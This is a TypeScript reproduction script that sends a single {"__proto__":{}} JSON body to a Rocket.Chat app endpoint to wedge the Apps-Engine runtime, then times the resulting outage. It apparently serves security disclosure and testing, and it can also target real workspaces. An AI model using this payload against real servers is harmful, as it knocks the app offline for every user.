/**
 * `npm run repro:wedge`: reproduces the Apps-Engine's `__proto__` wedge (docs/security.md) against the local
 * stand-in or a real workspace, and measures how long the app is down.
 *
 *   npm run repro:wedge                                   the stand-in on engine 1.62, started here, Rocket.Chat's timings
 *   npm run repro:wedge -- --engine 1.59 --fast           another engine; scaled-down engine timings (seconds, not a minute)
 *   npm run repro:wedge -- --url https://chat.example.org --user-id <id> --token <personal access token>
 *
 * What it does: checks that the app answers (GET <app>/voip/room: any answer below 500 is the app's), sends ONE
 * `POST` to that path with the JSON body `{"__proto__":{}}`, as the given user, then sends a GET once a second and
 * prints each answer, until the app answers again; the outage is the time from the request to the first probe the
 * app answered (one-interval resolution). On a workspace, that is an outage of the app for every user: run it
 * where that is acceptable.
 *
 * Exit codes: 0 the app went down and came back (outage printed); 3 the app kept answering (not affected, e.g. an
 * engine without the defect or a proxy that refuses the body); 1 it could not run or the app was still down after
 * --max-wait-s; 2 bad arguments.
 */
import * as fs from 'fs';
import * as path from 'path';

import { ENGINE_TABLE, isDenoEngine } from '../test/engine/engines';
import type { EngineName, LivenessTimings } from '../test/engine/host';
import type { RunningServer } from '../test/server';
import { engineOf, readArgs, UsageError, valueOf } from './cliArgs';

export const USAGE = [
	'usage: npm run repro:wedge -- [--url URL --user-id ID --token TOKEN] [--engine NAME] [--fast]',
	'                              [--app-id ID] [--path PATH] [--interval-ms N] [--max-wait-s N]',
	'  (no --url)      the local stand-in, started here with the packaged app, on --engine (default 1.62)',
	'  --url URL       a Rocket.Chat server where the app is installed; needs --user-id and --token (any user)',
	'  --fast          the stand-in with scaled-down engine timings (see FAST_TIMINGS); not with --url',
	'  --app-id ID     default: this app (app.json); --path PATH: an endpoint of it, default voip/room',
	'  --interval-ms N probe interval, default 1000; --max-wait-s N: give up after N s of outage, default 180',
].join('\n');

/** The body that wedges the Deno runtime: an own `__proto__` key, which body-parser's JSON.parse keeps. */
export const WEDGE_BODY = '{"__proto__":{}}';

/**
 * Scaled-down engine timings for `--fast` and the tests: the request timeout Rocket.Chat reads from
 * APPS_ENGINE_RUNTIME_TIMEOUT (default 30000) and the liveness check's (default 10 s / 1 s / 4, see
 * test/engine/host/liveness.ts). The restart needs 4 missed pings, about 4.5 s: after the request timeout.
 */
export const FAST_TIMINGS: { runtimeTimeoutMs: number; liveness: LivenessTimings } = {
	runtimeTimeoutMs: 3000,
	liveness: { pingIntervalMs: 1000, pingTimeoutMs: 500, consecutiveTimeouts: 4 },
};

export interface ReproOptions {
	/** a server's base URL; none: the in-process stand-in */
	url?: string;
	userId?: string;
	token?: string;
	engine: EngineName;
	fast: boolean;
	appId: string;
	/** the endpoint path, without a leading slash */
	path: string;
	intervalMs: number;
	maxWaitS: number;
}

export { UsageError };

/** A failure that stops the run before or during the measurement (exit code 1). */
export class ReproError extends Error {}

const ROOT = path.resolve(__dirname, '..');

function ownAppId(): string {
	return (JSON.parse(fs.readFileSync(path.join(ROOT, 'app.json'), 'utf8')) as { id: string }).id;
}

function integerIn(flag: string, text: string, min: number, max: number): number {
	if (!/^\d+$/.test(text) || Number(text) < min || Number(text) > max) {
		throw new UsageError(`${flag}: a whole number from ${min} to ${max}, not ${JSON.stringify(text)}`);
	}
	return Number(text);
}

export function parseReproArgs(argv: ReadonlyArray<string>): ReproOptions {
	const options: ReproOptions = { engine: '1.62', fast: false, appId: ownAppId(), path: 'voip/room', intervalMs: 1000, maxWaitS: 180 };
	const given = readArgs(argv, {
		valued: ['--url', '--user-id', '--token', '--engine', '--app-id', '--path', '--interval-ms', '--max-wait-s'],
		switches: ['--fast'],
	});
	const engineGiven = given.engine !== undefined;
	const value = (key: string): string | undefined => valueOf(given, key);
	const urlText = value('url');
	if (urlText !== undefined) {
		let url: URL;
		try {
			url = new URL(urlText);
		} catch {
			throw new UsageError(`--url: not a URL: ${JSON.stringify(urlText)} (e.g. https://chat.example.org)`);
		}
		if (url.protocol !== 'http:' && url.protocol !== 'https:') {
			throw new UsageError(`--url: http or https only, not ${JSON.stringify(url.protocol)}`);
		}
		if (url.search || url.hash) {
			throw new UsageError(`--url: the server's base URL, without ?query or #fragment: ${JSON.stringify(urlText)}`);
		}
		options.url = url.toString().replace(/\/+$/, '');
	}
	options.userId = value('user-id');
	options.token = value('token');
	options.engine = engineOf(given) || options.engine;
	options.fast = given.fast === true;
	const appId = value('app-id');
	if (appId !== undefined) {
		if (!/^[A-Za-z0-9-]+$/.test(appId)) {
			throw new UsageError(`--app-id: letters, digits and dashes (an app id such as ${ownAppId()}), not ${JSON.stringify(appId)}`);
		}
		options.appId = appId;
	}
	const pathText = value('path');
	if (pathText !== undefined) {
		const text = pathText.replace(/^\/+/, '');
		if (!text || /[?#\s]/.test(text)) {
			throw new UsageError(
				`--path: an endpoint path of the app such as voip/room (no query, no spaces), not ${JSON.stringify(text)}`,
			);
		}
		options.path = text;
	}
	const interval = value('interval-ms');
	if (interval !== undefined) {
		options.intervalMs = integerIn('--interval-ms', interval, 100, 60000);
	}
	const maxWait = value('max-wait-s');
	if (maxWait !== undefined) {
		options.maxWaitS = integerIn('--max-wait-s', maxWait, 1, 3600);
	}
	if ((options.userId === undefined) !== (options.token === undefined)) {
		throw new UsageError('--user-id and --token go together (X-User-Id and X-Auth-Token of one user)');
	}
	if (options.url !== undefined) {
		if (options.userId === undefined) {
			throw new UsageError('--url needs --user-id and --token (any user of that workspace: a personal access token will do)');
		}
		if (engineGiven) {
			throw new UsageError('--engine picks the engine of the local stand-in; a --url server runs its own');
		}
		if (options.fast) {
			throw new UsageError('--fast sets the local stand-in\u2019s engine timings; a --url server keeps its own');
		}
	}
	return options;
}

interface Answer {
	status: number;
	text: string;
	/** ms from sending to the whole answer */
	ms: number;
}

interface Probe {
	/** ms after the wedging request was sent */
	sentAt: number;
	answer?: Answer;
	/** the connection failed (or the probe was abandoned) */
	error?: string;
}

export interface ReproReport {
	/** where the requests went: the app's endpoint URL */
	endpoint: string;
	/** the wedging request's answer, if it came while the run lasted */
	request?: Answer;
	/** true: the app stopped answering, then answered again */
	affected: boolean;
	/** ms from the request to the first probe the app answered (affected runs) */
	outageMs?: number;
	/** probes sent before that one (each failed, or was still waiting) */
	failedProbes: number;
	exitCode: 0 | 1 | 3;
}

function seconds(ms: number): string {
	return `${(ms / 1000).toFixed(1)} s`;
}

function oneLine(text: string, max = 160): string {
	const line = text.replace(/\s+/g, ' ').trim();
	return line.length > max ? `${line.slice(0, max - 1)}\u2026` : line;
}

async function send(url: string, init: RequestInit, signal: AbortSignal): Promise<Answer> {
	const started = Date.now();
	const res = await fetch(url, { ...init, signal });
	const text = await res.text();
	return { status: res.status, text, ms: Date.now() - started };
}

function messageOf(value: unknown): string | undefined {
	return value !== null && typeof value === 'object' && typeof (value as { message?: unknown }).message === 'string'
		? (value as { message: string }).message
		: undefined;
}

/** fetch's error and its cause (`fetch failed: connect ECONNREFUSED 127.0.0.1:9`); not instanceof: other realms too */
function describeError(error: unknown): string {
	const message = messageOf(error);
	if (message === undefined) {
		return String(error);
	}
	const cause = messageOf((error as { cause?: unknown }).cause);
	return cause ? `${message}: ${cause}` : message;
}

/** The app answered: any status below 500 (the app's own 4xx included; the engine's failures are 500s). */
function appAnswered(answer: Answer | undefined): boolean {
	return answer !== undefined && answer.status < 500;
}

function timingsLine(engine: EngineName, fast: boolean): string {
	const timeout = fast ? FAST_TIMINGS.runtimeTimeoutMs : 30000;
	const live = fast ? FAST_TIMINGS.liveness : { pingIntervalMs: 10000, pingTimeoutMs: 1000, consecutiveTimeouts: 4 };
	if (!isDenoEngine(engine)) {
		return `apps run in-process (${ENGINE_TABLE[engine].runtime}): no runtime to wedge`;
	}
	return (
		`${fast ? 'scaled-down' : "Rocket.Chat's default"} timings: request timeout ${seconds(timeout)}, ` +
		`a ping every ${seconds(live.pingIntervalMs)} (${seconds(live.pingTimeoutMs)} to answer), restart after ${live.consecutiveTimeouts} missed`
	);
}

/** Measures against `base` (a server's URL) with the given credentials; prints as it goes. */
async function measure(
	base: string,
	options: ReproOptions,
	userId: string,
	token: string,
	print: (line: string) => void,
): Promise<ReproReport> {
	const endpoint = `${base}/api/apps/public/${encodeURIComponent(options.appId)}/${options.path}`;
	const headers = { 'X-User-Id': userId, 'X-Auth-Token': token };
	const abort = new AbortController();
	let check: Answer;
	try {
		check = await send(endpoint, { headers }, AbortSignal.any([abort.signal, AbortSignal.timeout(options.maxWaitS * 1000)]));
	} catch (error) {
		throw new ReproError(`cannot reach ${endpoint}: ${describeError(error)}`);
	}
	if (check.status === 401) {
		throw new ReproError(`${endpoint} refused the credentials (401 ${oneLine(check.text, 40)}): check --user-id and --token`);
	}
	if (check.status === 404) {
		throw new ReproError(`no endpoint at ${endpoint} (404): is the app installed and enabled? (--app-id, --path)`);
	}
	if (!appAnswered(check)) {
		throw new ReproError(`the app does not answer now (GET → ${check.status}: ${oneLine(check.text)}): nothing sent; try when it does`);
	}
	print(`the app answers: GET ${endpoint} → ${check.status} in ${check.ms} ms`);
	print(`sending one POST to it, Content-Type: application/json, body ${WEDGE_BODY}; then a GET every ${seconds(options.intervalMs)}`);

	const t0 = Date.now();
	const report: ReproReport = { endpoint, affected: false, failedProbes: 0, exitCode: 1 };
	const wedging = send(
		endpoint,
		{ method: 'POST', headers: { ...headers, 'Content-Type': 'application/json' }, body: WEDGE_BODY },
		abort.signal,
	).then(
		(answer) => {
			report.request = answer;
			print(`+${seconds(answer.ms)}  the POST → ${answer.status} after ${seconds(answer.ms)}: ${oneLine(answer.text)}`);
		},
		(error: unknown) => {
			if (!abort.signal.aborted) {
				print(`the POST failed: ${describeError(error)}`);
			}
		},
	);
	const probes: Probe[] = [];
	let back: Probe | undefined;
	let wake: () => void = () => undefined;
	const deadline = t0 + options.maxWaitS * 1000;
	let next = t0 + options.intervalMs;
	while (!back && Date.now() < deadline) {
		const wait = Math.max(0, next - Date.now());
		await new Promise<void>((resolve) => {
			wake = resolve;
			setTimeout(resolve, wait);
		});
		if (back || Date.now() >= deadline) {
			break;
		}
		next += options.intervalMs;
		const probe: Probe = { sentAt: Date.now() - t0 };
		probes.push(probe);
		send(endpoint, { headers }, abort.signal).then(
			(answer) => {
				probe.answer = answer;
				if (back) {
					return;
				}
				const failed = appAnswered(answer) ? '' : `: ${oneLine(answer.text, 140)}`;
				print(`+${seconds(probe.sentAt)}  GET → ${answer.status} after ${seconds(answer.ms)}${failed}`);
				if (appAnswered(answer)) {
					back = probe;
					wake();
				}
			},
			(error: unknown) => {
				probe.error = describeError(error);
				if (!back && !abort.signal.aborted) {
					print(`+${seconds(probe.sentAt)}  GET failed after ${seconds(Date.now() - t0 - probe.sentAt)}: ${probe.error}`);
				}
			},
		);
	}
	if (!report.request && back) {
		// the POST's own answer (the engine's timeout) is usually in by now; give it one interval more
		await Promise.race([wedging, new Promise((resolve) => setTimeout(resolve, options.intervalMs))]);
	}
	abort.abort();
	await wedging;
	if (!back) {
		print(`still down after ${options.maxWaitS} s: gave up (${probes.length} probes, none answered by the app)`);
		return report;
	}
	const earlier = probes.filter((probe) => probe.sentAt < back!.sentAt);
	report.failedProbes = earlier.filter((probe) => !appAnswered(probe.answer)).length;
	if (report.failedProbes === 0) {
		report.exitCode = 3;
		print(
			`NOT AFFECTED: the app answered the first probe (+${seconds(back.sentAt)}); the POST got ${report.request ? report.request.status : 'no answer yet'}`,
		);
		return report;
	}
	report.affected = true;
	report.outageMs = back.sentAt;
	report.exitCode = 0;
	print(
		`DOWN for ${seconds(back.sentAt)}: the app did not answer from the POST (+0.0 s) to the probe sent at +${seconds(back.sentAt)}; ` +
			`${report.failedProbes} of ${earlier.length} probes before it failed or were still waiting`,
	);
	return report;
}

/** Runs the reproduction; starts (and stops) the local stand-in unless `url` is given. */
export async function runRepro(options: ReproOptions, print: (line: string) => void): Promise<ReproReport> {
	if (options.url !== undefined) {
		print(`target: ${options.url} (its own engine and timings)`);
		return measure(options.url, options, options.userId as string, options.token as string, print);
	}
	const { DEMO, startServer } = await import('../test/server');
	print(`target: the local stand-in, engine ${ENGINE_TABLE[options.engine].version}; ${timingsLine(options.engine, options.fast)}`);
	let server: RunningServer | undefined;
	const stop = (): void => {
		void (server ? server.stop() : Promise.resolve()).finally(() => process.exit(130));
	};
	process.once('SIGINT', stop);
	try {
		server = await startServer({ engine: options.engine, port: 0, ...(options.fast ? FAST_TIMINGS : {}) });
		return await measure(server.url, options, options.userId || DEMO.callerId, options.token || DEMO.callerToken, print);
	} finally {
		process.off('SIGINT', stop);
		if (server) {
			await server.stop();
		}
	}
}

async function main(): Promise<void> {
	let options: ReproOptions;
	try {
		options = parseReproArgs(process.argv.slice(2));
	} catch (error) {
		if (error instanceof UsageError) {
			if (error.message) {
				console.error(`repro:wedge: ${error.message}`);
			}
			console.error(USAGE);
			process.exit(error.message ? 2 : 0);
		}
		throw error;
	}
	try {
		const report = await runRepro(options, (line) => console.log(line));
		process.exit(report.exitCode);
	} catch (error) {
		if (error instanceof ReproError) {
			console.error(`repro:wedge: ${error.message}`);
			process.exit(1);
		}
		throw error;
	}
}

if (require.main === module) {
	main().catch((error: unknown) => {
		console.error(`repro:wedge: ${error instanceof Error ? error.stack || error.message : String(error)}`);
		process.exit(1);
	});
}
